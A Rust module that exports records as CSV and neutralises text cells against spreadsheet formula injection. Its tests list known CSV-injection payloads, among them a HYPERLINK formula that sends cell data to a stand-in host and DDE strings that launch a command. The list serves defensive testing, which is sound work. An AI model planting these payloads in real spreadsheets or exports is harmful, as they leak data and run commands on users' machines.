//! Records as tables: RFC 4180, UTF-8, a column a field, made safe for spreadsheets.

use serde_json::Value;

use crate::exchange::sheet::neutral;
use crate::model::record::Fields;

/// What stands in a cell: numbers as numbers, texts so that no spreadsheet takes them for formulas
/// ([`neutral`]), lists as JSON, nothing for what is not known. The exact text is in the JSON beside the table.
pub(super) fn cell(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(text)) => neutral(text),
        Some(other) => other.to_string(),
    }
}

/// A row of a record in the order of `columns`.
pub(super) fn row(columns: &[&str], fields: &Fields) -> Vec<String> {
    columns.iter().map(|column| cell(fields.get(*column))).collect()
}

/// A line as the text of a table.
pub(super) fn line<T: AsRef<[u8]>>(cells: impl IntoIterator<Item = T>) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    // Writing into memory can't fail.
    let _ = writer.write_record(cells);
    writer.into_inner().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::exchange::sheet::restored;

    /// Texts with which spreadsheets were attacked, in the forms that are known (OWASP, "CSV Injection").
    const HOSTILE: [&str; 16] = [
        "=1+1",
        "=HYPERLINK(\"http://e.example/?\"&A1,\"x\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "'=1+1",
        "a\r\nb\"c,d;e",
        "\u{202e}=1",
    ];

    #[test]
    fn no_hostile_text_begins_a_cell_like_a_formula_and_each_comes_back() {
        for text in HOSTILE {
            let kept = cell(Some(&json!(text)));
            let first = kept.chars().next().unwrap();
            assert!(!"=+-@\t\r\n＝＋－＠".contains(first), "{kept:?}");
            assert_eq!(restored(&kept), text);
            let table = line([kept.as_str(), "end"]);
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(&table[..]);
            let back = reader.records().next().unwrap().unwrap();
            assert_eq!((&back[0], &back[1]), (kept.as_str(), "end"));
        }
    }

    #[test]
    fn numbers_stay_numbers_and_lines_end_as_the_standard_says() {
        let fields =
            json!({ "latitude": -33.868_8, "quantity": 2, "title": "-5", "notes": null, "sources": [] });
        let Value::Object(fields) = fields else {
            unreachable!()
        };
        let cells = row(
            &["latitude", "quantity", "title", "notes", "sources", "absent"],
            &fields,
        );
        assert_eq!(cells, ["-33.8688", "2", "'-5", "", "[]", ""]);
        assert_eq!(line(["a", "b c", "d,\"e"]), b"a,b c,\"d,\"\"e\"\r\n");
    }
}
